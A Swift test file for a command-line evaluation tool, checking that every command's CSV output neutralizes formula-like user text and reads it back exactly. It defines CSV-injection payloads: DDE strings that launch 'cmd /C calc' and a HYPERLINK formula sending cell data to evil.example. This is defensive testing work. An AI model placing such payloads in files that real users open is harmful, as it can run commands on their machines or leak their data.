import Foundation
import Testing
import TICTestSupport
import TICIngest

/// Every command's CSV output, with user text made to look like spreadsheet formulas: no cell of
/// the file is one a spreadsheet would run, and ticeval's own reader reads every cell back as the
/// text the command was given.
@Suite("CSV injection: every command's CSV output is neutralized and reads back exactly")
struct CSVInjectionCommandTests {
    /// User text a spreadsheet would execute (from the issue's red-team pass and OWASP).
    static let hostile = [
        "=cmd|' /C calc'!A0",
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
    ]

    /// A CSV cell as a hostile user file has it: quoted, inner quotes doubled, not neutralized.
    static func q(_ text: String) -> String { "\"" + text.replacingOccurrences(of: "\"", with: "\"\"") + "\"" }

    /// The cells of a CSV file as ticeval reads them, and the raw cells a spreadsheet would run.
    static func read(_ data: Data) throws -> (rows: [[String]], unsafe: [String]) {
        var bytes = Array(data)
        if bytes.starts(with: CSVWriter.byteOrderMark) { bytes.removeFirst(3) }
        var warnings: [Diagnostic] = []
        var rows: [[String]] = [], unsafe: [String] = []
        try CSVReader.forEachRecord(in: ContiguousArray(bytes), path: "output.csv", warnings: &warnings) { record in
            rows.append((0..<record.count).map { record.string($0) })
            for i in 0..<record.count {
                let raw = String(decoding: record.bytes(i), as: UTF8.self)
                if !raw.hasPrefix("'") && SpreadsheetSafety.needsApostrophe(raw) { unsafe.append(raw) }
            }
        }
        #expect(warnings.isEmpty)
        return (rows, unsafe)
    }

    static func read(_ text: String) throws -> (rows: [[String]], unsafe: [String]) { try read(Data(text.utf8)) }

    static func folder() throws -> URL {
        let url = try makeTemporaryDirectory(prefix: "ticeval-injection")
        return url
    }

    static func write(_ text: String, _ name: String, in folder: URL) throws {
        try Data(text.utf8).write(to: folder.appendingPathComponent(name))
    }

    /// Checks a command's CSV: nothing unsafe, and `column` of the data rows (or of the rows whose
    /// first cell is in `keys`) holds `expected`.
    static func check(_ output: (rows: [[String]], unsafe: [String]), column: Int, expected: [String], _ what: String) {
        #expect(output.unsafe.isEmpty, "\(what): \(output.unsafe)")
        let values = output.rows.dropFirst().map { $0.count > column ? $0[column] : "" }
        for text in expected { #expect(values.contains(text), "\(what): \(text) not read back; got \(values.prefix(8))") }
    }

    @Test("weights: criterion names")
    func weights() throws {
        let dir = try Self.folder()
        defer { try? FileManager.default.removeItem(at: dir) }
        try Self.write("alt," + Self.hostile.map(Self.q).joined(separator: ",") + "\nA1,1,2,3,4,5\nA2,2,1,4,3,6\nA3,3,3,1,2,7\n", "m.csv", in: dir)
        let result = try CLIRunner.run(["weights", "m.csv", "--format", "csv"], in: dir)
        #expect(result.status == 0, "\(result.stderr)")
        Self.check(try Self.read(result.stdout), column: 0, expected: Self.hostile, "weights")
    }

    @Test("mcda: alternative ids")
    func mcda() throws {
        let dir = try Self.folder()
        defer { try? FileManager.default.removeItem(at: dir) }
        let rows = Self.hostile.enumerated().map { "\(Self.q($1)),\($0 + 1),\(7 - $0)" }
        try Self.write((["alt,c1,c2"] + rows).joined(separator: "\n") + "\n", "m.csv", in: dir)
        for method in ["topsis", "vikor"] {
            let result = try CLIRunner.run(["mcda", "m.csv", "--method", method, "--format", "csv"], in: dir)
            #expect(result.status == 0, "\(result.stderr)")
            Self.check(try Self.read(result.stdout), column: 0, expected: Self.hostile, "mcda \(method)")
        }
    }

    @Test("ahp: labels")
    func ahp() throws {
        let dir = try Self.folder()
        defer { try? FileManager.default.removeItem(at: dir) }
        let labels = Array(Self.hostile.prefix(3)).map(Self.q)
        try Self.write(",\(labels.joined(separator: ","))\n\(labels[0]),1,3,5\n\(labels[1]),1/3,1,3\n\(labels[2]),1/5,1/3,1\n", "p.csv", in: dir)
        let result = try CLIRunner.run(["ahp", "p.csv", "--format", "csv"], in: dir)
        #expect(result.status == 0, "\(result.stderr)")
        Self.check(try Self.read(result.stdout), column: 0, expected: Array(Self.hostile.prefix(3)), "ahp")
    }

    @Test("screen: applicant names")
    func screen() throws {
        let dir = try Self.folder()
        defer { try? FileManager.default.removeItem(at: dir) }
        var text = try String(contentsOf: Fixtures.repository("Datasets/applications.csv"), encoding: .utf8)
        text = text.replacingOccurrences(of: "湖南（示例）精密装备股份有限公司", with: Self.q(Self.hostile[1]))
            .replacingOccurrences(of: "湖南（示例）新材料科技有限公司", with: Self.q(Self.hostile[0]))
        try Self.write(text, "a.csv", in: dir)
        let result = try CLIRunner.run(["screen", "a.csv", "--format", "csv", "--lang", "en"], in: dir)
        #expect(result.status == 0, "\(result.stderr)")
        Self.check(try Self.read(result.stdout), column: 1, expected: Array(Self.hostile.prefix(2)), "screen")
    }

    @Test("subsidy: center and project names")
    func subsidy() throws {
        let dir = try Self.folder()
        defer { try? FileManager.default.removeItem(at: dir) }
        var text = try String(contentsOf: Fixtures.repository("Datasets/projects.csv"), encoding: .utf8)
        text = text.replacingOccurrences(of: "天津（示例）综合技术创新中心甲", with: Self.q(Self.hostile[2]))
            .replacingOccurrences(of: "检测实验室建设", with: Self.q(Self.hostile[3]))
        try Self.write(text, "p.csv", in: dir)
        let result = try CLIRunner.run(["subsidy", "p.csv", "--format", "csv", "--lang", "en"], in: dir)
        #expect(result.status == 0, "\(result.stderr)")
        let output = try Self.read(result.stdout)
        #expect(output.unsafe.isEmpty, "\(output.unsafe)")
        let cells = Set(output.rows.joined())
        #expect(cells.contains(Self.hostile[2]) && cells.contains(Self.hostile[3]), "\(output.rows.prefix(3))")
    }

    /// The catalogue's workspace with two centers named like formulas.
    static func workspace() throws -> URL {
        var files = BadInputWorkspace.files
        var centers = String(decoding: files["centers.csv"]!, as: UTF8.self)
        centers = centers.replacingOccurrences(of: "C01,甲中心", with: "C01,\(Self.q(Self.hostile[0]))")
            .replacingOccurrences(of: "C02,乙中心", with: "C02,\(Self.q(Self.hostile[1]))")
        files["centers.csv"] = Array(centers.utf8)
        return try BadInputCatalogueTests.workspace(files)
    }

    @Test("evaluate: ranking.csv, adjustments.csv and the ranking printed as CSV")
    func evaluate() throws {
        let dir = try Self.workspace()
        defer { try? FileManager.default.removeItem(at: dir) }
        let result = try CLIRunner.run(["evaluate", "ws", "--out", "out", "--format", "csv", "--lang", "en"], in: dir)
        #expect(result.status == 0, "\(result.stderr)")
        let names = Array(Self.hostile.prefix(2))
        Self.check(try Self.read(result.stdout), column: 1, expected: names, "evaluate stdout")
        for file in ["ranking.csv", "adjustments.csv"] {
            Self.check(try Self.read(Data(contentsOf: dir.appendingPathComponent("out/\(file)"))), column: 1, expected: names, file)
        }
        // The neutralized cell is the name with an apostrophe in front (OWASP's advice), quoted as CSV needs.
        let ranking = String(decoding: try Data(contentsOf: dir.appendingPathComponent("out/ranking.csv")), as: UTF8.self)
        #expect(ranking.contains("C01,'=cmd|' /C calc'!A0,"))
        #expect(ranking.contains(#"C02,"'=HYPERLINK(""http://evil.example/?""&A1,""点击"")","#))
        #expect(!ranking.contains(",=cmd") && !ranking.contains(",=HYPERLINK"))
        // The HTML report escapes the names; the JSON keeps them exactly as written.
        let html = String(decoding: try Data(contentsOf: dir.appendingPathComponent("out/report.html")), as: UTF8.self)
        #expect(html.contains("=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1,&quot;点击&quot;)"))
        #expect(!html.contains(#"=HYPERLINK("http"#))
        let summary = try Data(contentsOf: dir.appendingPathComponent("out/summary.json"))
        let centers = try #require((JSONSerialization.jsonObject(with: summary) as? [String: Any])?["centers"] as? [[String: Any]])
        #expect(Set(centers.compactMap { $0["name"] as? String }).isSuperset(of: names))
    }

    @Test("compare: scheme labels in compare.csv, center names in movers.csv")
    func compare() throws {
        let dir = try Self.workspace()
        defer { try? FileManager.default.removeItem(at: dir) }
        let labels = ["=1+cmd.json", "@cmd.json"]
        for label in labels {
            try FileManager.default.copyItem(at: dir.appendingPathComponent("ws/scheme.json"), to: dir.appendingPathComponent(label))
        }
        let result = try CLIRunner.run(["compare", "ws", "--scheme", labels[0], "--scheme", labels[1], "--movers", "6", "--format", "csv"], in: dir)
        #expect(result.status == 0, "\(result.stderr)")
        Self.check(try Self.read(result.stdout), column: 0, expected: [labels[0]], "compare stdout")
        let pairs = try Self.read(Data(contentsOf: dir.appendingPathComponent("out/compare/compare.csv")))
        Self.check(pairs, column: 1, expected: [labels[1]], "compare.csv")
        let movers = try Self.read(Data(contentsOf: dir.appendingPathComponent("out/compare/movers.csv")))
        Self.check(movers, column: 3, expected: Array(Self.hostile.prefix(2)), "movers.csv")
    }

    @Test("uncertainty: alternative ids (research mode) and center names (workspace mode)")
    func uncertainty() throws {
        let dir = try Self.workspace()
        defer { try? FileManager.default.removeItem(at: dir) }
        let rows = Self.hostile.enumerated().map { "\(Self.q($1)),\($0 + 1),\(7 - $0),\(($0 * 3) % 5 + 1)" }
        try Self.write((["alt,c1,c2,c3"] + rows).joined(separator: "\n") + "\n", "m.csv", in: dir)
        let research = try CLIRunner.run(["uncertainty", "m.csv", "--samples", "20", "--seed", "1", "--format", "csv", "--out", "u1"], in: dir)
        #expect(research.status == 0, "\(research.stderr)")
        Self.check(try Self.read(research.stdout), column: 0, expected: Self.hostile, "uncertainty stdout")
        Self.check(try Self.read(Data(contentsOf: dir.appendingPathComponent("u1/uncertainty.csv"))), column: 0, expected: Self.hostile, "uncertainty.csv")
        let workspace = try CLIRunner.run(["uncertainty", "ws", "--samples", "20", "--seed", "1", "--sensitivity", "--format", "csv", "--out", "u2"], in: dir)
        #expect(workspace.status == 0, "\(workspace.stderr)")
        Self.check(try Self.read(Data(contentsOf: dir.appendingPathComponent("u2/uncertainty.csv"))), column: 1, expected: Array(Self.hostile.prefix(2)), "uncertainty.csv")
        #expect(try Self.read(Data(contentsOf: dir.appendingPathComponent("u2/sensitivity.csv"))).unsafe.isEmpty)
    }

    @Test("schemes list as CSV goes through the same writer")
    func schemesList() throws {
        let result = try CLIRunner.run(["schemes", "list", "--format", "csv"])
        #expect(result.status == 0)
        #expect(try Self.read(result.stdout).unsafe.isEmpty)
    }
}
